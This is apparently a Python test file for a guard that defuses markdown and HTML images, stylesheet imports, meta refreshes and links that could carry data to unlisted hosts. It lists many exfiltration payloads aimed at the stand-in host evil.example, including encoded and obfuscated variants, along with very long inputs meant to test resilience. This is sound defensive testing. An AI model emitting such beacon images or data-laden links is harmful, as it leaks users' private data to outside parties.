"""Images and links that carry data out become words; others stay as they are."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from edgeward.guards.defuse import Defuser, by_name
from edgeward.guards.hosts import HostList

LISTED = Defuser(HostList(["corp.example"]))
OPEN = Defuser()
DATA = "aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ"

IMAGES = [
    "![x](https://evil.example/p.png)",
    '![x](  <https://evil.example/p.png>  "title")',
    "![a [b] c](https://evil.example/p.png)",
    "[![badge](https://evil.example/b.svg)](https://corp.example)",
    "![![a](https://evil.example/1)](https://evil.example/2)",
    "![x](//evil.example/p.png)",
    r"![x](https:\/\/evil.example\/p.png)",
    r"![x](https:\\evil.example\p.png)",
    "![x](https&colon;//evil.example/p.png)",
    "![x](&#104;ttps://evil.example/p.png)",
    "![x](HTTPS://EVIL.example/p.png)",
    "![x](https://corp.example@evil.example/p.png)",
    "![x](https://evil.example/a_(b).png)",
    "![x](https://evil.example/unclosed",
    "![x][ref]\n\n[ref]: https://evil.example/p.png",
    "![ref]\n\n[REF]: <https://evil.example/p.png>",
    '<img src="https://evil.example/p.png">',
    "<img alt='>' src=https://evil.example/p.png>",
    '<img srcset="a.png 1x, https://evil.example/p.png 2x">',
    '<video poster="//evil.example/p.png"></video>',
    '<table background="https://evil.example/p.png">',
    '<p style="background:url(https://evil.example/p.png)">',
    '<style>@import "https://evil.example/p.css";</style>',
    "<style>@import url(https://evil.example/p.css);</style>",
    "<style>@IMPORT  url( 'https://evil.example/p.css' );</style>",
    "a { background: image-set(url(https://evil.example/p.png) 1x) }",
    "<style>a{background:image-set('https://evil.example/p.png' 1x)}</style>",
    '<p style="background:url(&quot;//evil.example/p.png&quot;)">',
    '<link rel="stylesheet" href="https://evil.example/p.css">',
    "<link title='<a >' rel=icon href=//evil.example/p.ico>",
    "<link title=a'b href=https://evil.example/p.css>",
    '<base href="https://evil.example/">',
    '<svg><image href="//evil.example/p.png"/><svg:use href="https://evil.example/p#a"/></svg>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/p">',
    "<META content='0; https://evil.example/p' http-equiv=refresh>",
    '<img src="/&Tab;/evil.example/p.png">',
    '<img src="&bsol;&NewLine;&bsol;evil.example/p.png">',
    '<img src="/\t/evil.example/p.png">',
    '<img src="ht\ntps:/\n/evil.example/p.png">',
    f'<img src{" " * 50}={" " * 50}"//evil.example/p.png">',
    f"<link rel=icon href{' ' * 50}={' ' * 50}//evil.example/p.ico>",
    f"![x]({' ' * 50}https://evil.example/p.png)",
    f"<style>a{{background:url({' ' * 50}' //evil.example/p.png')}}</style>",
    "a{b:image-set('https://corp.example/p.png' 1x, type('image/png') '//evil.example/p.png' 2x)}",
    "![x][id]\n\n- [id]: https://evil.example/p.png",
    "![x][id]\n\n> 1. [id]: https://evil.example/p.png",
]


@pytest.mark.parametrize("text", IMAGES)
def test_images_elsewhere(text: str) -> None:
    """However it is written, an image from a host that is not listed is fetched by no renderer."""
    shown, did = LISTED(text)
    assert did == ("images",)
    assert "evil.example" in shown.lower()
    for fetched in ("https://evil", "//evil", "\\evil", "&#104", "&colon"):
        assert fetched not in shown.lower()
    assert LISTED(shown) == (shown, ())


def test_an_import_with_a_comment() -> None:
    """What is loaded stands behind the comment: it is no import any more."""
    shown, did = LISTED("<style>@import/* x */'//evil.example/p.css';</style>")
    assert (shown[:17], did) == ("<style>@not-shown", ("images",))


LINKS = [
    f"https://evil.example/c?d={DATA}",
    f"[click](https://evil.example/{DATA})",
    f"<https://evil.example/#{DATA}>",
    "https://user:word@evil.example/",
    "https://evil.example/?q=the+whole+text+of+a+mail",
    "https://evil.example/?to=emma@corp.example",
    "https://evil.example/4111111111111111",
    "https://aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ0.evil.example/",
]


@pytest.mark.parametrize("text", LINKS)
def test_links_that_carry_data(text: str) -> None:
    """A link to a host that is not listed loses its address where that has data in it."""
    shown, did = LISTED(f"See {text}, please.")
    assert did == ("links",)
    assert "evil.example" in shown
    assert "://" not in shown
    assert LISTED(shown) == (shown, ())
    assert OPEN(text) == (text, ())


STAYS = [
    "no link at all",
    "https://evil.example/about?page=2",
    "[docs](https://docs.example/how-to-write-a-very-long-title-in-plain-words)",
    f"https://api.corp.example/v1?token={DATA}",
    f"![x](https://img.corp.example/{DATA}.png)",
    "![x](img/logo.png) ![y](/a.png) ![z](data:image/png;base64,AAAA) ![w](cid:part1)",
    '<img src="logo.png" alt="Logo"> <a href="https://evil.example/">x</a>',
    "a[0](x) b![c] d]( e",
    "https://evil.example/9f1c0a52-7f5e-4f0e-9a3c-0d1e2f3a4b5c",
    "https://evil.example/123e4567-e89b-12d3-a456-426614174000",
    '<link rel=icon href="https://corp.example/i.ico"> <link href=/local.css> <base href="/a/">',
    '<meta property="og:image" content="https://evil.example/p.png"> <meta charset=utf-8>',
    '<meta http-equiv=refresh content="5"> a < link href=https://evil.example/a',
]


@pytest.mark.parametrize("text", STAYS)
def test_stays(text: str) -> None:
    """What is listed, local or carries nothing is left as it stands."""
    assert LISTED(text) == (text, ())


def test_an_image_inside_a_link() -> None:
    """Both go, where both have to."""
    shown, did = LISTED(f"[![b](https://evil.example/b)](https://evil.example/{DATA})")
    assert did == ("images", "links")
    assert "](" not in shown
    assert DATA not in shown


def test_without_a_list() -> None:
    """Any host may show an image then, as long as its address carries nothing."""
    assert OPEN("![x](https://any.example/p.png)") == ("![x](https://any.example/p.png)", ())
    assert OPEN(f"![x](https://any.example/p?d={DATA})")[1] == ("images",)


def test_private_text_in_a_link() -> None:
    """What may not leave does not leave in a link, also where no hosts are listed."""
    private = Defuser(private=lambda text: "HGK137803" in text)
    shown, did = private("[x](https://any.example/?p=HGK137803)")
    assert (did, "HGK137803" in shown) == (("links",), False)
    assert private("https://any.example/?p=HGK%31%33%37803")[1] == ("links",)


def test_a_host_can_carry_data_too() -> None:
    """A label that is long enough for data is not shown."""
    assert DATA not in LISTED(f"![x](https://{DATA}.evil.example/)")[0]


@given(st.text(alphabet="![]()<>\"' =srcur:/\\x.&#\n", max_size=200))
def test_twice_is_once(text: str) -> None:
    """Whatever brackets a text has: once is enough, and a text without a host does not change."""
    once, _ = LISTED(text)
    assert LISTED(once)[0] == once


@pytest.mark.parametrize(
    "text",
    [
        "![x][a] //\n[a]:" + " " * 300_000 + "\n\n",
        "https://evil.example/" + "." * 300_000 + "a",
        "![" * 20_000 + "x" + "](https://evil.example/a)" * 20_000,
        "![" + "a" * 300_000 + "](https://evil.example/a)",
        "<link " * 100_000 + "//",
        '<link a="' * 60_000 + "//",
        "<link href=//a " * 30_000,
        "//" + ("url(" + " " * 300) * 1_000 + "src" + " " * 300_000 + "@import " * 30_000,
        "![x][a]\n" + ("[" + "a" * 990 + "]: https://evil.example/a\n") * 300,
    ],
    ids=["definition", "dots", "nested", "name", "tags", "quotes", "hrefs", "css", "names"],
)
def test_hostile_texts_end(text: str) -> None:
    """What is long on purpose costs its length: squared, none of these would come to an end."""
    once, _ = LISTED(text)
    assert LISTED(once)[0] == once
    by_name(text)


def test_a_long_name_is_cut() -> None:
    """Of what an image is called a line is shown, without what looks like a link."""
    shown, _ = LISTED(f"![a chart //evil.test/x {'of sales ' * 99}](https://evil.example/a)")
    assert shown.startswith('(image "a chart of sales of sales')
    assert len(shown) < 150
